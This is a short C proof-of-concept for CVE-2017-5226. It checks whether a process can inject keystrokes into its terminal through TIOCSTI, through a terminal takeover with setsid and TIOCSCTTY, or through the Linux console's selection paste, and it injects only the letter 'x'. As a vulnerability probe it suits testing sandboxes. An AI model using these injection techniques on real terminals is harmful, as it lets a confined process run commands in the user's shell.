/* CVE-2017-5226: type at the terminal that is the standard input. Says "typed" where it could. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(void)
{
	char key = 'x', paste[16] = {2 /* TIOCL_SETSEL */};
	if (!ioctl(0, TIOCSTI, &key))
		puts("typed");
	else
		printf("TIOCSTI: %s\n", strerror(errno));
	setsid();
	if (!ioctl(0, TIOCSCTTY, 1) && !ioctl(0, TIOCSTI, &key))
		puts("typed into a terminal taken over");
	if (!ioctl(0, TIOCLINUX, paste))
		puts("typed by the console's selection");
	return 0;
}
